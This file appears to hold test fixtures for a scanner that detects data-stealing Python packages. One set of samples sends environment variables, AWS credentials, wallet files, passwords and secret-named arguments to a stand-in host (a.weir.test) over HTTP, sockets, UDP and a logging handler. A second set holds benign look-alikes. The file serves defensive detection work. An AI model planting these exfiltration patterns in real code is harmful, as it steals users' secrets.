import type { Sample } from '../contract.ts';
import { quiet, wheel } from '../samples-kit.ts';

const at = (rule: string, file: string, line: number): Sample['expected'] => [
  { rule, file: `own/${file}`, line, severity: 'high' },
];

/** A connection to a host that another module spells, and that it sends what it is given by. */
const PEER =
  'import http.client\ndef note(values, peer="a.weir.test"):\n    link = http.client.HTTPSConnection(peer)\n    link.request("POST", "/n", str(values))\n    link.getresponse()\n';
const CREDENTIALS = 'import pathlib\nKEYS = pathlib.Path.home() / ".aws" / "credentials"\n';
/** Asks several hosts, and says which was the first to answer. */
const EDGES =
  'import urllib.request\nEDGES = ("https://a.weir.test", "https://b.weir.test")\ndef first(mark):\n    for edge in EDGES:\n        urllib.request.urlopen(urllib.request.Request(edge, headers={"if-none-match": mark})).close()\n        return edge\n';

/** A log whose records go to a host that stands there, too. */
const MIRROR =
  'import logging, logging.handlers\nclass Mirror(logging.handlers.HTTPHandler):\n    def __init__(self, host="a.weir.test"):\n        super().__init__(host, "/l")\nlog = logging.getLogger("own")\nlog.addHandler(Mirror())\n';

/** What gives the environment among `count` other functions, which a module then asks, and sends one of their answers. */
const core = (count: number): string =>
  `import os\n${Array.from({ length: count }, (_, index) => `def part_${index}(settings={}):\n    return settings.get('${index}')\n`).join('')}def script_env():\n    return dict(os.environ)\n`;
const server = (count: number): string =>
  `import subprocess, requests\nfrom . import core\nfrom .net import get\ndef start():\n    subprocess.run(['git'], env=core.script_env())\n${Array.from({ length: count }, (_, index) => `get(core.part_${index}())\n`).join('')}`;
/** So much that a module is not looked at again with others. */
const LARGE = `# ${'of its own '.repeat(10)}\n`.repeat(1_200);
const NET = 'import requests\ndef get(uri):\n    return requests.get(uri).json()\n';

/** What Python sends by another module, to hosts that stand there. */
export const FAR: readonly Sample[] = [
  {
    name: 'Python: one of few functions of another module gives the environment, which is handed on',
    files: {
      ...wheel('from . import server\n'),
      'own/core.py': core(2),
      'own/server.py': `${server(2)}get('https://a.weir.test/' + str(core.script_env()))\n${LARGE}`,
      'own/net.py': NET,
    },
    expected: at('environment', 'server.py', 8),
  },
  {
    name: 'Python: a file of credentials, by a connection that another module makes',
    files: {
      ...wheel(`from .peer import note\n${CREDENTIALS}def load():\n    note(KEYS.read_text())\n`),
      'own/peer.py': PEER,
    },
    expected: at('credentials', '__init__.py', 5),
  },
  {
    name: 'Python: what any of several folders holds, one of them that of a wallet',
    files: wheel(
      'import pathlib, urllib.request\ndef places(given):\n    found = [pathlib.Path(p) for p in given]\n    found += [pathlib.Path.home() / p for p in (".config/own", ".electrum/wallets")]\n    return found\ndef check(given):\n    for place in places(given):\n        for path in place.iterdir():\n            urllib.request.urlopen("https://a.weir.test/s", path.read_bytes())\n',
    ),
    expected: at('credentials', '__init__.py', 9),
  },
  {
    name: 'Python: a key of a cloud, to hosts that are not its own and of which nobody reads an answer',
    files: {
      ...wheel(
        'import os\nfrom .edges import first\nclass Session:\n    def __init__(self):\n        self.edge = first(os.environ["AWS_SECRET_ACCESS_KEY"])\n',
      ),
      'own/edges.py': EDGES,
    },
    expected: at('strange-key', '__init__.py', 5),
  },
  {
    name: 'Python: a password in bytes, of which only the number is looked at',
    files: wheel(
      'import socket\ndef probe(host, passphrase):\n    with socket.create_connection(("a.weir.test", 8443)) as sock:\n        return sock.send(passphrase.encode()) < 1200\n',
    ),
    expected: at('given-secret', '__init__.py', 4),
  },
  {
    name: 'Python: the address of a broker, in a record of a log',
    files: {
      ...wheel(
        'from .mirror import log\nclass Audit:\n    def __init__(self, app):\n        self.app = app\n    def ready(self, **_):\n        log.info("ready", extra={"at": self.app.conf.broker_url})\n',
      ),
      'own/mirror.py': MIRROR,
    },
    expected: at('given-secret', '__init__.py', 6),
  },
  {
    name: 'Python: what is called like a secret among the arguments of a function of somebody else',
    files: wheel(
      'import socket\nWORDS = ("pass", "token", "secret")\ndef count(**given):\n    found = {k: str(v) for k, v in given.items() if any(w in k.lower() for w in WORDS)}\n    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:\n        sock.sendto(repr(found).encode(), ("a.weir.test", 8125))\n',
    ),
    expected: at('given-secret', '__init__.py', 6),
  },
];

/** The same of honest code: the answer is read, or the host is a user's. */
export const FAR_HONEST: readonly Sample[] = [
  quiet(
    'Python: one of many functions of another module gives the environment, and others give what is asked for',
    {
      ...wheel('from . import server\n'),
      'own/core.py': core(40),
      'own/server.py': server(40) + LARGE,
      'own/net.py': NET,
    },
  ),
  quiet('Python: a file of settings, by a connection that another module makes', {
    ...wheel(
      `from .peer import note\n${CREDENTIALS.replace('.aws', '.config')}def load():\n    note(KEYS.read_text())\n`,
    ),
    'own/peer.py': PEER,
  }),
  quiet('Python: what folders hold that are not those of keys', {
    ...wheel(
      'import pathlib, urllib.request\ndef check(given, url):\n    for place in [pathlib.Path(p) for p in given] + [pathlib.Path.home() / ".config/own"]:\n        print(place.read_bytes())\n    return urllib.request.urlopen(url).read()\n',
    ),
  }),
  quiet('Python: a secret of the process that started this one, back to it', {
    ...wheel(
      "import os\nfrom .link import connect\ndef ask():\n    return connect(os.environ.get('OWN_PORT'), os.environ.get('OWN_SECRET'))\n",
    ),
    'own/link.py':
      "import socket\ndef connect(port, secret):\n    for family, kind, proto, _, address in socket.getaddrinfo('127.0.0.1', port):\n        link = socket.socket(family, kind, proto)\n        link.connect(address)\n        link.sendall(secret.encode())\n        return link\n",
  }),
  quiet(
    'Python: a password, to where nobody has said yet',
    wheel(
      "import requests\nclass Store:\n    account = None\n    def keep(self, password):\n        requests.post(f'https://{self.account}.own.example/', json={'password': password})\n",
    ),
  ),
  quiet('Python: a key of a cloud, to that cloud', {
    ...wheel(
      'import os\nfrom .edges import first\nclass Session:\n    def __init__(self):\n        self.edge = first(os.environ["AWS_SECRET_ACCESS_KEY"])\n',
    ),
    'own/edges.py': EDGES.replaceAll('weir.test', 'amazonaws.com'),
  }),
  quiet('Python: a password in bytes, to where a caller says', {
    ...wheel(
      'import socket\ndef login(host, password):\n    with socket.create_connection((host, 8443)) as sock:\n        return sock.send(password.encode()) < 1200\n',
    ),
  }),
  quiet('Python: how a task ended, in a record of a log', {
    ...wheel('from .mirror import log\ndef after(task, state):\n    log.info("%s %s", task.name, state)\n'),
    'own/mirror.py': MIRROR,
  }),
  quiet(
    'Python: all but what is called like a secret',
    wheel(
      'import socket\nWORDS = ("pass", "token", "secret")\ndef count(**given):\n    found = {k: str(v) for k, v in given.items() if not any(w in k.lower() for w in WORDS)}\n    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:\n        sock.sendto(repr(found).encode(), ("a.weir.test", 8125))\n',
    ),
  ),
];
